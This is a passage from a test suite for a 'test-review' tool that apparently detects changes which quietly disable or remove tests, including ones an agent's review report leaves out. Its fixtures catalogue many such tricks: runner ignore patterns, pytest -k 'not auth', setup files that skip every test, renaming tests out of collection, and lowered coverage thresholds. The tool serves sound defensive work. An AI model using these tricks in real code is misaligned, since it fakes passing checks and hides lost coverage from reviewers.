    ['test/jest-e2e.json', '{ "testRegex": "NOTHING$", "passWithNoTests": true }\n'],
    ['web/playwright.ci.config.ts', "export default { retries: 5, testIgnore: '**/auth*' };\n"],
    ['cypress/support/e2e.ts', "Cypress.on('fail', () => false);\n"],
  ])('#242 %s alone is reviewed, never a skip', async (path, text) => {
    const dir = repoWith({ [path]: text });
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ promptOnly: true, files: [path], contextFiles: [] });
  });
});

describe('#243 a test moved where no runner looks is removed coverage', () => {
  const AUTH = "import { test, expect } from 'vitest';\n\ntest('refuses a wrong password', () => {\n  expect(2 + 2).toBe(4);\n});\n";
  test('#243 tests/auth.spec.ts moved unchanged into dist/ beside a reviewed spec: the verdict, the prompt and the summary name it as removed', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/auth.spec.ts': AUTH });
    mkdirSync(join(dir, 'dist/tests'), { recursive: true });
    git(dir, 'mv', 'tests/auth.spec.ts', 'dist/tests/auth.spec.ts');
    writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}// more\n`);
    commitAll(dir, "move the auth test out of the runner's reach");
    const r = await review(dir, ownReport(['tests/a.spec.ts', 'dist/tests/auth.spec.ts']));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ removedTests: [{ path: 'tests/auth.spec.ts', renamedTo: 'dist/tests/auth.spec.ts' }] });
    expect(r.stdout).toContain('1 test file(s) removed: tests/auth.spec.ts');
  });
  test.each([
    ['tests/auth.spec.ts', 'node_modules/auth/auth.spec.ts'],
    ['tests/test_auth.py', 'tests/.disabled/test_auth.py'],
    ['tests/test_auth.py', 'build/tests/test_auth.py'],
    ['tests/test_auth.py', 'venv/tests/test_auth.py'],
    ['pkg/auth_test.go', 'pkg/_off/auth_test.go'],
    ['pkg/auth_test.go', 'pkg/testdata/auth_test.go'],
  ])('#243 %s moved to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    const dir = repoWith({ [from]: AUTH });
    mkdirSync(join(dir, to, '..'), { recursive: true });
    git(dir, 'mv', from, to);
    commitAll(dir, 'move');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({
      promptOnly: true,
      removedTests: [{ path: from, renamedTo: to }],
    });
    expect(r.stdout).toMatch(/---BEGIN REMOVED TESTS \w+---/);
  });
});

describe('#246 runner settings inside a file with other jobs are reviewed when the change edits them', () => {
  const pkg = (extra: Record<string, unknown>) =>
    `${JSON.stringify({ name: 'app', dependencies: { left: '1.0.0' }, ...extra }, null, 2)}\n`;
  test("adversarial 246 package.json's jest key ignoring every test beside a reviewed spec: the report that leaves it out is refused, and it can be named", async () => {
    const dir = twoCommits(
      { 'package.json': pkg({ jest: { testEnvironment: 'node' } }) },
      { 'package.json': pkg({ jest: { testEnvironment: 'node', testPathIgnorePatterns: ['tests/'] } }), 'tests/a.spec.ts': SPEC },
    );
    const r = await review(dir, clean);
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/package\.json/);
    const named = ownReport(
      ['package.json', 'tests/a.spec.ts'],
      [{ severity: 'Critical', row: 'C1', path: 'package.json', line: 8, title: 'Every test ignored' }],
    );
    const flagged = await review(dir, named);
    expect(flagged.code, flagged.stdout + flagged.stderr).toBe(1);
    expect(flagged.verdict()).toMatchObject({ recommendation: 'Block', files: ['package.json', 'tests/a.spec.ts'] });
  });
  test.each<[string, string, string]>([
    [
      'package.json',
      pkg({ scripts: { test: 'vitest run', build: 'tsc' } }),
      pkg({ scripts: { test: 'vitest run tests/smoke', build: 'tsc' } }),
    ],
    [
      'pyproject.toml',
      '[project]\nname = "app"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
      '[project]\nname = "app"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\naddopts = "-k \'not auth\'"\n',
    ],
    [
      'setup.cfg',
      '[metadata]\nname = app\n\n[tool:pytest]\ntestpaths = tests\n',
      '[metadata]\nname = app\n\n[tool:pytest]\ntestpaths = tests\naddopts = -k "not auth"\n',
    ],
    [
      'tox.ini',
      '[tox]\nenvlist = py\n\n[pytest]\ntestpaths = tests\n',
      '[tox]\nenvlist = py\n\n[pytest]\ntestpaths = tests\naddopts = -k "not auth"\n',
    ],
  ])('adversarial 246 %s whose runner settings the change edits is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
  test.each(['.pytest.ini', 'pytest.toml'])(
    'adversarial 246 %s (pytest reads it before pyproject.toml) is reviewed, never context',
    async (path) => {
      const text = path.endsWith('.toml') ? '[pytest]\naddopts = ["-k", "not auth"]\n' : '[pytest]\naddopts = -k "not auth"\n';
      expect(await scopeOf({}, { [path]: text })).toMatchObject({ files: [path], contextFiles: [] });
    },
  );
  test.each<[string, string, string]>([
    [
      'package.json',
      pkg({ jest: { bail: true }, scripts: { test: 'jest' } }),
      pkg({ jest: { bail: true }, scripts: { test: 'jest' }, version: '2.0.0' }),
    ],
    [
      'pyproject.toml',
      '[project]\ndependencies = ["left==1.0"]\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
      '[project]\ndependencies = ["left==1.1"]\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
    ],
    [
      'setup.cfg',
      '[options]\ninstall_requires = left==1.0\n\n[tool:pytest]\ntestpaths = tests\n',
      '[options]\ninstall_requires = left==1.1\n\n[tool:pytest]\ntestpaths = tests\n',
    ],
  ])('#246 %s with its runner settings as they were (a dependency bump) stays context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [], contextFiles: [path] });
  });
});

describe('adversarial 255 a line of setup.cfg that starts with [ but is no section header to pytest', () => {
  // pytest reads setup.cfg with iniconfig: a line starting with `[` is a header only when, comments
  // cut, it ends with `]`; otherwise it continues the value above, and the keys after it stay in
  // [tool:pytest]. Checked against pytest 9.0.3: the failing auth test is deselected and the run passes.
  const HEAD = '[metadata]\nname = app\n\n[tool:pytest]\ntestpaths = tests\nmarkers =\n    slow: slow tests\n';
  const TAIL = '[flake8]\nmax-line-length = 100\n';
  test.each([
    ['no closing bracket', '[deselected by the line below'],
    ['words after the bracket', '[docs] see below'],
    ['a comment character inside the brackets', '[x # ]'],
    ['a character Python does not strip after the bracket', '[x]\uFEFF'],
  ])('adversarial 255 %s (%j) followed by addopts -k "not auth": setup.cfg is reviewed, never context', async (_, line) => {
    const dir = twoCommits({ 'setup.cfg': `${HEAD}${TAIL}` }, { 'setup.cfg': `${HEAD}${line}\naddopts = -k "not auth"\n${TAIL}` });
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ files: ['setup.cfg'], contextFiles: [] });
  });
});

describe('adversarial 256 a script the test script runs by name, edited in package.json', () => {
  const pkg = (scripts: Record<string, string>) =>
    `${JSON.stringify({ name: 'app', dependencies: { left: '1.0.0' }, scripts: { build: 'tsc', ...scripts } }, null, 2)}\n`;
  test.each<[string, Record<string, string>, Record<string, string>]>([
    ['npm run', { test: 'npm run unit', unit: 'vitest run' }, { test: 'npm run unit', unit: 'vitest run --exclude tests/auth' }],
    [
      'yarn, two steps deep',
      { test: 'yarn check:all', 'check:all': 'yarn unit', unit: 'jest' },
      { test: 'yarn check:all', 'check:all': 'yarn unit', unit: 'jest --testPathIgnorePatterns tests/' },
    ],
    [
      'run-s with a glob',
      { test: 'run-s lint unit:*', lint: 'eslint .', 'unit:a': 'vitest run' },
      { test: 'run-s lint unit:*', lint: 'eslint .', 'unit:a': 'vitest run tests/smoke' },
    ],
    ['node --run', { test: 'node --run unit', unit: 'node --test' }, { test: 'node --run unit', unit: 'node --test tests/smoke.test.js' }],
  ])('adversarial 256 %s: package.json is reviewed, never context', async (_, before, after) => {
    const dir = twoCommits({ 'package.json': pkg(before) }, { 'package.json': pkg(after) });
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ files: ['package.json'], contextFiles: [] });
  });
  test('#256 a script the test script does not run (build) stays context', async () => {
    const dir = twoCommits(
      { 'package.json': pkg({ test: 'npm run unit', unit: 'vitest run' }) },
      { 'package.json': pkg({ test: 'npm run unit', unit: 'vitest run', build: 'tsc -p .' }) },
    );
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ files: [], contextFiles: ['package.json'] });
  });
});

describe('adversarial 249 a setup file a runner configuration names, under any name, is reviewed with the tests', () => {
  const HARNESS = 'globalThis.it = globalThis.it.skip;\nglobalThis.test = globalThis.test.skip;\n';
  test("adversarial 249 vitest's setupFiles naming src/testing/harness.ts, edited to skip every test beside a reviewed spec: the report that leaves it out is refused, and it can be named", async () => {
    const dir = twoCommits(
      {
        'vitest.config.ts':
          "import { defineConfig } from 'vitest/config';\nexport default defineConfig({ test: { setupFiles: ['./src/testing/harness.ts'] } });\n",
        'src/testing/harness.ts': 'export {};\n',
      },
      { 'src/testing/harness.ts': HARNESS, 'tests/a.spec.ts': SPEC },
    );
    const r = await review(dir, clean);
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/src\/testing\/harness\.ts/);
    const named = ownReport(
      ['src/testing/harness.ts', 'tests/a.spec.ts'],
      [{ severity: 'Critical', row: 'C1', path: 'src/testing/harness.ts', line: 1, title: 'Every test skipped' }],
    );
    const flagged = await review(dir, named);
    expect(flagged.code, flagged.stdout + flagged.stderr).toBe(1);
    expect(flagged.verdict()).toMatchObject({ recommendation: 'Block', files: ['src/testing/harness.ts', 'tests/a.spec.ts'] });
  });
  test.each<[string, string, string, string]>([
    [
      'jest setupFilesAfterEnv',
      'jest.config.js',
      "module.exports = { setupFilesAfterEnv: ['<rootDir>/src/testing/harness.ts'] };\n",
      'src/testing/harness.ts',
    ],
    ['jest globalSetup (no extension)', 'jest.config.ts', "export default { globalSetup: './support/boot' };\n", 'support/boot.ts'],
    [
      'jest globalTeardown in package.json',
      'package.json',
      '{ "name": "app", "jest": { "globalTeardown": "./scripts/stop.js" } }\n',
      'scripts/stop.js',
    ],
    ['vitest globalSetup', 'vitest.config.mts', "export default { test: { globalSetup: 'support/global.mts' } };\n", 'support/global.mts'],
    [
      'Playwright globalSetup',
      'playwright.config.ts',
      "export default { globalSetup: require.resolve('./e2e-support/global') };\n",
      'e2e-support/global.ts',
    ],
    ['Cypress supportFile', 'cypress.config.ts', "export default { e2e: { supportFile: 'qa/hooks.ts' } };\n", 'qa/hooks.ts'],
    ['.mocharc.yml require', '.mocharc.yml', 'require:\n  - test-support/hooks.mjs\n', 'test-support/hooks.mjs'],
    ['.mocharc.json file', '.mocharc.json', '{ "file": ["lib/root-hooks.js"] }\n', 'lib/root-hooks.js'],
    ['pytest -p plugin', 'pytest.ini', '[pytest]\naddopts = -p support.plugin\n', 'support/plugin.py'],
    ['conftest pytest_plugins', 'conftest.py', 'pytest_plugins = ["app.testing.fixtures"]\n', 'app/testing/fixtures.py'],
    ['a config in a sub-project', 'web/jest.config.js', "module.exports = { setupFiles: ['./harness.js'] };\n", 'web/harness.js'],
  ])('adversarial 249 %s: the file it names, edited, is reviewed, never context', async (_, config, text, named) => {
    expect(
      await scopeOf({ [config]: text, [named]: '// setup\n' }, { [named]: HARNESS, 'src/app.ts': 'export const a = 2;\n' }),
    ).toMatchObject({
      files: [named],
      contextFiles: ['src/app.ts'],
    });
  });
  test("#249 package.json's main and a config's other words name no setup: the app's entry stays context", async () => {
    expect(
      await scopeOf(
        {
          'package.json': '{ "name": "app", "main": "src/app.ts", "jest": { "testEnvironment": "node" } }\n',
          'src/app.ts': 'export const a = 1;\n',
        },
        { 'src/app.ts': 'export const a = 2;\n' },
      ),
    ).toMatchObject({ files: [], contextFiles: ['src/app.ts'] });
  });
});

describe('#257 a coverage threshold is a runner setting', () => {
  test.each<[string, string, string]>([
    [
      'pyproject.toml',
      '[project]\nname = "app"\n\n[tool.coverage.report]\nfail_under = 90\n',
      '[project]\nname = "app"\n\n[tool.coverage.report]\nfail_under = 0\n',
    ],
    [
      'setup.cfg',
      '[metadata]\nname = app\n\n[coverage:report]\nfail_under = 90\n',
      '[metadata]\nname = app\n\n[coverage:report]\nfail_under = 0\n',
    ],
    ['.coveragerc', '[report]\nfail_under = 90\n', '[report]\nfail_under = 0\n'],
    ['.nycrc.json', '{ "check-coverage": true, "lines": 90 }\n', '{ "check-coverage": false }\n'],
    ['.c8rc.json', '{ "check-coverage": true, "lines": 90 }\n', '{ "check-coverage": false }\n'],
  ])('adversarial 257 %s whose coverage threshold the change lowers is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
});

describe('#266 tests inside source files are tests', () => {
  const LIB = 'pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n';
  const RUST = `${LIB}\n#[cfg(test)]\nmod tests {\n    use super::*;\n\n    #[test]\n    fn adds() {\n        assert_eq!(add(2, 2), 4);\n    }\n}\n`;
  test.each<[string, string, string]>([
    ['src/lib.rs', RUST, RUST.replace('#[test]', '#[test]\n    #[ignore]')],
    ['src/lib.rs', RUST, LIB],
    [
      'src/math.zig',
      'pub fn add(a: i32, b: i32) i32 {\n    return a + b;\n}\n\ntest "adds" {\n    try std.testing.expect(add(2, 2) == 4);\n}\n',
      'pub fn add(a: i32, b: i32) i32 {\n    return a + b;\n}\n\ntest "adds" {\n    return error.SkipZigTest;\n}\n',
    ],
    [
      'source/math.d',
      'int add(int a, int b) { return a + b; }\n\nunittest\n{\n    assert(add(2, 2) == 4);\n}\n',
      'int add(int a, int b) { return a + b; }\n\nunittest\n{\n}\n',
    ],
  ])('adversarial 266 %s whose tests the change skips or removes is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
  test('#266 a Rust file with no test in it stays context', async () => {
    expect(await scopeOf({ 'src/lib.rs': LIB }, { 'src/lib.rs': LIB.replace('a + b', 'b + a') })).toMatchObject({
      files: [],
      contextFiles: ['src/lib.rs'],
    });
  });
});

// Hazard 490: a source file holding inline tests, deleted or renamed out of its language, was no removed test
// (its name is none), so a change doing only that was a skip, exit 0.
describe('#490 a source file whose inline tests go with it is removed coverage', () => {
  const LIB = 'pub mod util;\n';
  const UTIL =
    'pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n\n#[cfg(test)]\nmod tests {\n    use super::*;\n\n    #[test]\n    fn adds() {\n        assert_eq!(add(2, 2), 4);\n    }\n}\n';
  /** src/util.rs (with its tests, or without) changed by `change`, test-review run with no agent. */
  async function run(util: string, change: (dir: string) => void) {
    const dir = repoWith({ 'src/lib.rs': LIB, 'src/util.rs': util, 'tests/a.spec.ts': SPEC });
    change(dir);
    commitAll(dir, 'change');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    return { ...r, verdict: JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown> };
  }
  const moveAdd = (dir: string) => writeFileSync(join(dir, 'src/lib.rs'), 'pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n');
  test.each<[string, (dir: string) => void, Record<string, string>]>([
    ['deleted', (dir) => git(dir, 'rm', '-q', 'src/util.rs'), { path: 'src/util.rs' }],
    [
      'renamed to src/util.rs.off',
      (dir) => git(dir, 'mv', 'src/util.rs', 'src/util.rs.off'),
      { path: 'src/util.rs', renamedTo: 'src/util.rs.off' },
    ],
    [
      'turned into a link',
      (dir) => {
        git(dir, 'rm', '-q', 'src/util.rs');
        symlinkSync('lib.rs', join(dir, 'src/util.rs'));
      },
      { path: 'src/util.rs' },
    ],
  ])(
    '#490 src/util.rs holding #[cfg(test)] tests %s, its function moved to lib.rs: removed coverage, exit 1',
    async (_how, change, removed) => {
      const r = await run(UTIL, (dir) => {
        change(dir);
        moveAdd(dir);
      });
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.verdict).toMatchObject({ skipped: true, reason: 'only test deletions in diff; nothing to review', removedTests: [removed] });
      expect(r.stdout).toContain('1 test file(s) removed: src/util.rs');
    },
  );
  test('#490 beside another test change, the deleted file is removed coverage in the prompt and the verdict', async () => {
    const r = await run(UTIL, (dir) => {
      git(dir, 'rm', '-q', 'src/util.rs');
      writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}// more\n`);
    });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/---BEGIN REMOVED TESTS \w+---/);
    expect(r.verdict).toMatchObject({ promptOnly: true, files: ['tests/a.spec.ts'], removedTests: [{ path: 'src/util.rs' }] });
  });
  test('#490 a file with no tests deleted, or one with tests renamed within its language, removes no test', async () => {
    const deleted = await run(UTIL.slice(0, UTIL.indexOf('\n\n#[cfg')), (dir) => git(dir, 'rm', '-q', 'src/util.rs'));
    expect(deleted.verdict).not.toHaveProperty('removedTests');
    const renamed = await run(UTIL, (dir) => git(dir, 'mv', 'src/util.rs', 'src/helpers.rs'));
    expect(renamed.verdict).not.toHaveProperty('removedTests');
  });
});

const AUTH_TEST = "import { test, expect } from 'vitest';\n\ntest('refuses a wrong password', () => {\n  expect(2 + 2).toBe(4);\n});\n";

/** test-review with no agent on `dir`'s last commit: its verdict, once the prompt showed a removed test. */
async function removedInPrompt(dir: string): Promise<Record<string, unknown>> {
  const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
  expect(r.code, r.stdout + r.stderr).toBe(0);
  expect(r.stdout).toMatch(/---BEGIN REMOVED TESTS \w+---/);
  return JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>;
}

/** Tests (`text`, each marked with its path) renamed from → to in one commit: every one stays reviewed, none is removed coverage. */
async function renamesKept(renames: string[][], text: string): Promise<void> {
  const dir = repoWith(Object.fromEntries(renames.map(([from]) => [from!, `${text}// ${from}\n`])));
  for (const [from, to] of renames) {
    mkdirSync(join(dir, to!, '..'), { recursive: true });
    git(dir, 'mv', from!, to!);
  }
  commitAll(dir, 'rename');
  const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
  expect(r.code, r.stdout + r.stderr).toBe(0);
  const v = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as { files: string[] };
  expect(v).not.toHaveProperty('removedTests');
  expect(v.files.sort()).toEqual(renames.map(([, to]) => to).sort());
}

/** A test renamed (or moved) unchanged from `from` to `to`: the verdict of removedInPrompt. */
async function renamedUnchanged(from: string, to: string): Promise<Record<string, unknown>> {
  const dir = repoWith({ [from]: AUTH_TEST });
  mkdirSync(join(dir, to, '..'), { recursive: true });
  git(dir, 'mv', from, to);
  commitAll(dir, 'rename');
  return removedInPrompt(dir);
}

describe('#270 a test renamed, in its folder, to a name its runner does not collect is removed coverage', () => {
  test.each([
    ['tests/auth.test.ts', 'tests/auth.ts'],
    ['tests/test_auth.py', 'tests/auth_checks.py'],
    ['pkg/tests/auth_test.go', 'pkg/tests/auth.go'],
    ['spec/models/user_spec.rb', 'spec/models/user.rb'],
    ['test/auth_test.exs', 'test/auth.exs'],
    ['src/test/java/com/x/AuthTest.java', 'src/test/java/com/x/AuthCheck.java'],
  ])('#270 %s renamed unchanged to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    expect(await renamedUnchanged(from, to)).toMatchObject({
      promptOnly: true,
      files: [to],
      removedTests: [{ path: from, renamedTo: to }],
    });
  });
  test('#270 a rename that keeps a test name, or that --test-glob names, is no removal', async () => {
    const dir = repoWith({ 'tests/auth.test.ts': AUTH_TEST, 'tests/test_login.py': AUTH_TEST });
    git(dir, 'mv', 'tests/auth.test.ts', 'tests/auth.spec.ts');
    git(dir, 'mv', 'tests/test_login.py', 'tests/login_checks.py');
    commitAll(dir, 'rename');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json', '--test-glob', '_checks.py']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).not.toHaveProperty('removedTests');
  });
});

describe('#469 a test turned into a link or a submodule is removed coverage, as its deletion is', () => {
  const AUTH =
    "import { test, expect } from 'vitest';\nimport { check } from '../src/auth';\n\ntest('rejects a bad token', () => {\n  expect(check('bad')).toBe(false);\n});\n";
  const CHECK = "export const check = (t: string) => t === 'good';\n";
  /** tests/auth.test.ts turned into `kind` (a link to the trivial spec, or a gitlink) while the check it held is weakened. */
  function turnedInto(kind: 'link' | 'submodule'): string {
    const dir = repoWith({ 'tests/auth.test.ts': AUTH, 'tests/a.spec.ts': SPEC, 'src/auth.ts': CHECK });
    git(dir, 'rm', '-q', 'tests/auth.test.ts');
    if (kind === 'link') symlinkSync('a.spec.ts', join(dir, 'tests/auth.test.ts'));
    else {
      // A submodule as a clone leaves it before `git submodule update`: its gitlink over an empty folder.
      mkdirSync(join(dir, 'tests/auth.test.ts'));
      git(dir, 'update-index', '--add', '--cacheinfo', `160000,${headSha(dir)},tests/auth.test.ts`);
    }
    writeFileSync(join(dir, 'src/auth.ts'), 'export const check = (_t: string) => true;\n');
    commitAll(dir, `the auth test becomes a ${kind}`);
    expect(git(dir, 'diff', '--raw', 'HEAD~1', 'HEAD', '--', 'tests/auth.test.ts')).toMatch(/ T\ttests\/auth\.test\.ts\n$/);
    return dir;
  }
  test.each(['link', 'submodule'] as const)(
    '#469 tests/auth.test.ts turned into a %s, its check weakened, an agent approving: removed coverage, exit 1 as for its deletion',
    async (kind) => {
      const r = await review(turnedInto(kind), ownReport(['tests/auth.test.ts']));
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.verdict()).toMatchObject({
        skipped: true,
        reason: 'only test deletions in diff; nothing to review',
        removedTests: [{ path: 'tests/auth.test.ts' }],
      });
      expect(r.stdout).toContain('1 test file(s) removed: tests/auth.test.ts (removed coverage)');
    },
  );
  test('#469 a link added at a test name beside a reviewed spec is for a person to check, never a test read and approved', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    symlinkSync('a.spec.ts', join(dir, 'tests/auth.test.ts'));
    writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}// more\n`);
    commitAll(dir, 'a linked test');
    const r = await review(dir, ownReport(['tests/a.spec.ts', 'tests/auth.test.ts']));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ unreadableFiles: ['tests/auth.test.ts'] });
    expect(r.stdout).toContain('1 test file(s) that hold no text an agent can read, for a person to check: tests/auth.test.ts');
  });
});

describe('#470 a test renamed to a name only another language collects is removed coverage', () => {
  test.each([
    ['pkg/auth/auth_test.go', 'pkg/auth/auth_Test.go'],
    ['pkg/auth/auth_test.go', 'pkg/auth/_auth_test.go'],
    ['tests/auth.test.ts', 'tests/auth.Test.ts'],
    ['tests/auth.spec.ts', 'tests/auth.Spec.ts'],
    ['tests/auth.test.ts', 'tests/authTest.ts'],
    ['tests/auth.test.ts', 'tests/auth.test.py'],
    ['tests/test_auth.py', 'tests/authTest.py'],
    ['tests/test_auth.py', 'tests/auth.spec.py'],
    ['spec/models/user_spec.rb', 'spec/models/userSpec.rb'],
  ])('#470 %s renamed unchanged to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    expect(await renamedUnchanged(from, to)).toMatchObject({ promptOnly: true, removedTests: [{ path: from, renamedTo: to }] });
  });
  test('#470 a rename to a name its own language collects is no removal, and JUnit, xUnit and ScalaTest names stay tests', async () => {
    const renames = [
      ['pkg/auth/auth_test.go', 'pkg/login/login_test.go'],
      ['tests/auth.test.ts', 'tests/auth.spec.mts'],
      ['tests/test_auth.py', 'tests/auth_test.py'],
      ['spec/models/user_spec.rb', 'spec/models/account_spec.rb'],
      ['src/test/java/AuthTest.java', 'src/test/java/AuthTests.java'],
      ['Auth.Tests/AuthTests.cs', 'Auth.Tests/LoginTest.cs'],
      ['src/test/scala/AuthSpec.scala', 'src/test/scala/LoginSuite.scala'],
    ];
    await renamesKept(renames, AUTH_TEST);
  });
});

// Hazard 531: a test renamed to a name or folder its runner never collects was kept, because some
// runner of any language takes the new name (`auth.test-disabled.ts`, `AuthIT.java`, `tests_auth.py`).
describe("#531 a test renamed or moved where its own runner's default rule does not collect it is removed coverage", () => {
  test.each([
    ['src/auth.test.ts', 'src/auth.test-disabled.ts'],
    ['src/auth.test.ts', 'src/auth.test-d.ts'],
    ['src/auth.test.ts', 'src/auth_test.ts'],
    ['tests/auth.test.ts', 'tests/auth_test.mts'],
    ['src/auth.test.ts', 'cypress/auth.test.ts'],
    ['pkg/auth/auth_test.go', 'pkg/auth/vendor/auth_test.go'],
    ['tests/auth.rs', 'tests/old/auth.rs'],
    ['src/test/java/m/AuthTest.java', 'src/test/java/m/AuthIT.java'],
    ['src/test/java/m/AuthTest.java', 'src/test/java/m/AuthSpec.java'],
    ['tests/test_auth.py', 'tests/tests_auth.py'],
    ['tests/test_auth.py', 'tests/CVS/test_auth.py'],
    ['tests/AuthTest.php', 'tests/AuthTests.php'],
    ['tests/App.Tests/AuthTests.cs', 'tests/App.Tests/bin/AuthTests.cs'],
    ['tests/App.Tests/AuthTests.cs', 'tests/App.Tests/obj/AuthTests.cs'],
    ['spec/models/user_spec.rb', 'test/models/user_test.rb'],
    ['src/auth_test.ts', 'src/auth-test.ts'],
  ])('#531 %s renamed unchanged to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    expect(await renamedUnchanged(from, to)).toMatchObject({
      promptOnly: true,
      files: [to],
      removedTests: [{ path: from, renamedTo: to }],
    });
  });
  test("#531 a rename its runner's default rule still collects, or --test-glob names, is no removal", async () => {
    const renames = [
      ['src/auth.test.ts', 'src/auth.spec.mts'],
      ['src/auth_test.ts', 'src/login.test.ts'],
      ['__tests__/auth.ts', '__tests__/login.tsx'],
      ['tests/auth.rs', 'tests/auth/main.rs'],
      ['crates/a/tests/auth.rs', 'crates/a/tests/login.rs'],
      ['src/test/java/m/AuthIT.java', 'src/test/java/m/LoginITCase.java'],
      ['tests/AuthTest.php', 'tests/Unit/LoginTest.php'],
      ['tests/App.Tests/AuthTests.cs', 'tests/App.Tests/Login/LoginChecks.cs'],
      ['polls/tests.py', 'polls/tests_views.py'],
      ['spec/models/user_spec.rb', 'spec/models/account_spec.rb'],
    ];
    await renamesKept(renames, AUTH_TEST);
    const dir = repoWith({ 'src/auth.test.ts': AUTH_TEST });
    git(dir, 'mv', 'src/auth.test.ts', 'src/auth.test-e2e.ts');
    commitAll(dir, 'rename');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json', '--test-glob', '.test-e2e.']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).not.toHaveProperty('removedTests');
  });
});

describe('#484 a Go test renamed to build only on another OS or architecture is removed coverage', () => {
  const AUTH = 'package auth\n\nimport "testing"\n\nfunc TestRefusesWrongPassword(t *testing.T) {}\n';
  test.each([
    ['pkg/auth/auth_test.go', 'pkg/auth/auth_plan9_test.go'],
    ['pkg/auth/auth_test.go', 'pkg/auth/auth_windows_test.go'],
    ['pkg/auth/auth_test.go', 'pkg/auth/auth_wasm_test.go'],
    ['pkg/auth/auth_test.go', 'pkg/auth/auth_freebsd_arm64_test.go'],
    ['pkg/auth/auth_linux_test.go', 'pkg/auth/auth_linux_arm64_test.go'],
    ['pkg/auth/auth_linux_test.go', 'pkg/auth/auth_darwin_test.go'],
    ['pkg/auth/auth_amd64_test.go', 'pkg/auth/auth_windows_amd64_test.go'],
  ])('#484 %s renamed unchanged to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    expect(await renamedUnchanged(from, to)).toMatchObject({ removedTests: [{ path: from, renamedTo: to }] });
  });
  test('#484 a Go rename that keeps or drops its platform, or whose platform word go/build does not read, is no removal', async () => {
    const renames = [
      ['a/auth_linux_test.go', 'a/login_linux_test.go'],
      ['b/auth_linux_amd64_test.go', 'b/auth_linux_test.go'],
      ['c/auth_windows_test.go', 'c/auth_test.go'],
      // go/build reads no platform before the first `_`, after the first `.`, or from `unix`.
      ['d/auth_test.go', 'd/linux_test.go'],
      ['e/auth_test.go', 'e/auth.v2_windows_test.go'],
      ['f/auth_test.go', 'f/auth_unix_test.go'],
    ];
    await renamesKept(renames, AUTH);
  });
});

describe('#492 a Go test moved into another module is removed coverage', () => {
  const AUTH = 'package auth\n\nimport "testing"\n\nfunc TestRefusesWrongPassword(t *testing.T) {}\n';
  const MOD = (m: string) => `module example.com/${m}\n\ngo 1.22\n`;
  test.each<[string, Record<string, string>, string, string, string[]]>([
